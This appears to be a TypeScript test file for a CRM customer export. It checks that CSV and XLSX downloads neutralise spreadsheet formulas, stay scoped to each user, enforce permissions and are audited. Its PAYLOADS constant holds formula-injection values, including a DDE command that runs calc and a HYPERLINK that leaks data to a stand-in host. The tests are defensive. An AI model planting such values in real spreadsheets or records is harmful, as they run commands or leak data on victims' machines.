import ExcelJS from 'exceljs'
import { sql } from 'kysely'
import zlib from 'node:zlib'
import t from 'tap'
import { auditRows, seedOffice, signIn, testApp, type Client } from '../../helpers/app.ts'
import { zipDirectory } from '../../../src/platform/spreadsheet-read.ts'
import { createViaForm } from './helpers.ts'
import { parseCsv } from './io-helpers.ts'

/** the raw bytes of a download (the Client keeps bodies as text) */
async function download(c: Client, url: string) {
  const res = await c.app.inject({ method: 'GET', url, headers: { cookie: [...c.cookies].map(([k, v]) => `${k}=${v}`).join('; ') } })
  return { status: res.statusCode, headers: res.headers, body: res.rawPayload }
}

/** the worksheet XML inside an XLSX, as written */
function sheetXml(buf: Buffer): string {
  const dir = zipDirectory(buf)
  if ('error' in dir) throw new Error(dir.error)
  const e = dir.entries.find((x) => x.name === 'xl/worksheets/sheet1.xml')!
  const start = e.offset + 30 + buf.readUInt16LE(e.offset + 26) + buf.readUInt16LE(e.offset + 28)
  const data = buf.subarray(start, start + e.compressed)
  return (e.method === 8 ? zlib.inflateRawSync(data) : data).toString('utf8')
}

async function sheetRows(buf: Buffer): Promise<unknown[][]> {
  const wb = new ExcelJS.Workbook()
  await wb.xlsx.load(buf as never)
  return (wb.worksheets[0].getSheetValues() as unknown[][]).filter(Boolean).map((r) => r.slice(1))
}

// values a spreadsheet would run as formulas (security.md §2.6), in every kind of field
const PAYLOADS = {
  name: "=cmd|' /C calc'!A0",
  short_name: '+SUM(1+1)',
  legal_rep: '-2+3',
  address: '@SUM(1+1)*cmd|',
  brands: '=HYPERLINK("http://x.test/?leak","IAmSafe")',
  remarks: '=10+20+cmd|',
  tags: '=tag, +x'
}

t.test('customer export', async (t) => {
  const app = await testApp(t)
  const office = await seedOffice(app)
  // an ordinary user given the export permission: his export is his own customers only
  await app.db.updateTable('users').set({ grants: ['customers.export'] }).where('login', '=', 'rep').execute()
  const rep = await signIn(app, 'rep')
  const rep2 = await signIn(app, 'rep2')
  const sup = await signIn(app, 'super')

  const evil = await createViaForm(rep, { ...PAYLOADS, phone: '13800138000', registered_on: '2026-01-31', grade: 'A' })
  await createViaForm(rep, { name: '导出测试二公司', phone: '010-6552 1234', email: 'x@y.cn' })
  await createViaForm(rep2, { name: 'CANARY金丝雀公司', remarks: 'CANARY-SECRET', phone: '021-99990000' })

  t.test('CSV: formula-safe, BOM, the user\'s scope only, audited', async (t) => {
    const res = await download(rep, '/customers/export.csv')
    t.equal(res.status, 200)
    t.match(String(res.headers['content-type']), /^text\/csv; charset=utf-8/)
    t.match(String(res.headers['content-disposition']), /^attachment; filename="customers_\d{4}-\d{2}-\d{2}\.csv"; filename\*=UTF-8''%E5%AE%A2%E6%88%B7%E5%88%97%E8%A1%A8_\d{4}-\d{2}-\d{2}\.csv$/)
    t.equal(res.headers['cache-control'], 'no-store')
    const text = res.body.toString('utf8')
    t.ok(text.startsWith('\uFEFF'), 'UTF-8 BOM for Excel on Chinese Windows')
    t.notMatch(text, 'CANARY', "another rep's customer never appears")
    const rows = parseCsv(text)
    const head = rows[0]
    t.equal(head[0], '客户编码')
    t.equal(rows.length, 3, 'header + his two customers')
    const row = rows.find((r) => r[head.indexOf('企业名称')] === `'${PAYLOADS.name}`)
    t.ok(row, 'the formula name is there, prefixed')
    const cell = (h: string) => row![head.indexOf(h)]
    for (const [h, v] of [['企业名称', PAYLOADS.name], ['简称', PAYLOADS.short_name], ['法人代表', PAYLOADS.legal_rep], ['详细地址', PAYLOADS.address],
      ['经营/代理品牌', PAYLOADS.brands], ['备注', PAYLOADS.remarks], ['标签', '=tag, +x']] as const) {
      t.equal(cell(h), `'${v}`, `${h} neutralised, and equal to the source once the prefix is removed`)
    }
    t.equal(cell('电话'), '13800138000', 'phone kept as typed')
    t.equal(cell('信息登记日期'), '2026-01-31')
    for (const r of rows.slice(1)) for (const c of r) t.notOk(/^[=+\-@\t\r]/.test(c), `no risky leading character: ${c}`)
    const a = (await auditRows(app, { action: 'export' })).at(-1)!
    t.match(a, { entity: 'customer', user_name: '张三' })
    t.match(a.changes, { rows: 2, format: 'csv', filter: '' })
  })

  t.test('XLSX: strings never formulas, header frozen and bold, dates in the office time zone', async (t) => {
    const res = await download(rep, '/customers/export.xlsx')
    t.equal(res.status, 200)
    t.match(String(res.headers['content-type']), 'spreadsheetml.sheet')
    t.match(String(res.headers['content-disposition']), /^attachment; filename="customers_[\d-]+\.xlsx"; filename\*=UTF-8''%E5%AE%A2/)
    const xml = sheetXml(res.body)
    t.notMatch(xml, '<f>', 'no formula element in the sheet')
    t.notMatch(xml, /<f[\s>]/)
    t.notMatch(xml, 'CANARY')
    t.match(xml, /<pane [^>]*ySplit="1"[^>]*state="frozen"/, 'header row frozen')
    const rows = await sheetRows(res.body)
    const head = rows[0] as string[]
    const row = rows.find((r) => r[head.indexOf('企业名称')] === PAYLOADS.name)!
    t.ok(row, 'values are the source text exactly')
    t.equal(row[head.indexOf('标签')], '=tag, +x')
    t.equal(row[head.indexOf('电话')], '13800138000', 'a phone stays text, not 1.38E+10')
    t.match(row[head.indexOf('客户编码')], /^A-\d{6}$/)
    const reg = row[head.indexOf('信息登记日期')] as Date
    t.equal(reg.toISOString().slice(0, 10), '2026-01-31', 'the date is the same day in Excel')
    const created = await app.db.selectFrom('customers').select('created_at').where('id', '=', evil).executeTakeFirstOrThrow()
    const wall = new Intl.DateTimeFormat('sv-SE', { timeZone: 'Asia/Shanghai', dateStyle: 'short', timeStyle: 'short' }).format(created.created_at)
    const cell = row[head.indexOf('录入时间')] as Date
    t.equal(cell.toISOString().slice(0, 16).replace('T', ' '), wall, 'a timestamp shows the office wall-clock time')
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(res.body as never)
    t.equal(wb.worksheets[0].getRow(1).font?.bold, true, 'bold header')
    // the number format makes Excel show a date, not a serial number, and keep a phone as text
    const sheetRow = wb.worksheets[0].getRow(rows.indexOf(row) + 1)
    t.equal(sheetRow.getCell(head.indexOf('信息登记日期') + 1).numFmt, 'yyyy-mm-dd', 'a date cell is formatted as a date')
    t.equal(sheetRow.getCell(head.indexOf('录入时间') + 1).numFmt, 'yyyy-mm-dd hh:mm', 'a timestamp cell as date and time')
    t.equal(sheetRow.getCell(head.indexOf('电话') + 1).numFmt, '@', 'a phone cell as text')
    t.equal((await auditRows(app, { action: 'export' })).at(-1)!.changes && ((await auditRows(app, { action: 'export' })).at(-1)!.changes as { format: string }).format, 'xlsx')
  })

  t.test('the export is exactly the list filter, search included', async (t) => {
    const all = parseCsv((await download(sup, '/customers/export.csv')).body.toString('utf8'))
    t.equal(all.length, 4, "a supervisor's subtree: both reps' customers")
    const canary = parseCsv((await download(sup, '/customers/export.csv?q=CANARY')).body.toString('utf8'))
    t.same(canary.slice(1).map((r) => r[1]), ['CANARY金丝雀公司'])
    const graded = parseCsv((await download(sup, '/customers/export.csv?grade=A')).body.toString('utf8'))
    t.same(graded.slice(1).map((r) => r[1]), [PAYLOADS.name].map((v) => `'${v}`))
    const a = (await auditRows(app, { action: 'export' })).at(-1)!
    t.match(a.changes, { filter: 'grade=A', rows: 1 })
    t.equal((await download(sup, '/customers/export.csv?grade=Z')).status, 400, 'a filter outside its shapes is refused')
  })

  t.test('permission: ordinary users without customers.export get 403', async (t) => {
    t.equal((await download(rep2, '/customers/export.csv')).status, 403)
    t.equal((await download(rep2, '/customers/export.xlsx')).status, 403)
    const agent = await signIn(app, 'agent')
    t.equal((await download(agent, '/customers/export.xlsx')).status, 403)
    const anon = await app.inject({ method: 'GET', url: '/customers/export.csv' })
    t.equal(anon.statusCode, 303)
  })

  t.test('every row of a large filter, in keyset batches, in the list order', async (t) => {
    // 2,500 more customers for the supervisor's team, straight into the table
    await sql`insert into customers (code, customer_type, name, owner_id, grade, name_initials)
      select 'A-9' || lpad(g::text, 5, '0'), 'A', '批量' || g, ${office.users.rep2.id}::int, (array['A','B','C','D','E'])[1 + g % 5], 'pl' || lpad(g::text, 5, '0')
        from generate_series(1, 2500) g`.execute(app.db)
    for (const sort of ['new', 'name', 'grade']) {
      const rows = parseCsv((await download(sup, `/customers/export.csv?sort=${sort}`)).body.toString('utf8')).slice(1)
      t.equal(rows.length, 2503, `sort=${sort}: every row`)
      t.equal(new Set(rows.map((r) => r[0])).size, 2503, `sort=${sort}: none twice`)
      const page = await sup.get(`/customers?sort=${sort}`)
      const listed = [...page.body.matchAll(/<td><a href="\/customers\/\d+">([A-Z]-\d+)<\/a><\/td>/g)].map((m) => m[1])
      t.equal(listed.length, 50, 'the list page shows its first 50')
      t.same(rows.slice(0, listed.length).map((r) => r[0]), listed, `sort=${sort}: the list's order`)
    }
  })
})
